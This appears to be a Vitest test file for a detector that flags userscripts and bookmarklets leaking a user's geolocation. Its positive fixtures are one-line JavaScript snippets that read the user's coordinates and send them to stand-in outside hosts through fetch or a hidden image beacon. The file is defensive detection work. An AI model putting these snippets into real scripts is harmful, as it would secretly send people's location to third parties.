import { describe, expect, test } from "vitest";
import { findIn, userscript } from "../testing/find-in.ts";
import { geolocationLeak } from "./geolocation-leak.ts";

describe("geolocation-leak", () => {
	test.each([
		[
			"the place, by itself",
			["high 5"],
			userscript(
				["match https://shop.example/*"],
				`navigator.geolocation.getCurrentPosition(p=>fetch("https://c.stranger.test/?"+p.coords.latitude+","+p.coords.longitude))`,
			),
		],
		[
			"a bookmarklet that tells the place to a picture nobody sees",
			["high 1"],
			`navigator.geolocation.getCurrentPosition(p=>{new Image().src="https://w.stranger.test/?"+p.coords.latitude})`,
		],
		[
			"a bookmarklet that asks about the place: look at it",
			["medium 1"],
			`navigator.geolocation.getCurrentPosition(p=>fetch("https://w.stranger.test/?"+p.coords.latitude).then(show));function show(r){r.json().then(alert)}`,
		],
	])("finds %s", (_title, expected, code) => {
		expect(findIn(geolocationLeak, code)).toEqual(expected);
	});

	test.each([
		[
			"the place for the site",
			userscript(
				["match https://shop.example/*"],
				`navigator.geolocation.getCurrentPosition(p=>fetch("/near?lat="+p.coords.latitude))`,
			),
		],
		["a map that is opened", `navigator.geolocation.getCurrentPosition(p=>{document.title=p.coords.latitude})`],
	])("leaves alone %s", (_title, code) => {
		expect(findIn(geolocationLeak, code)).toEqual([]);
	});
});
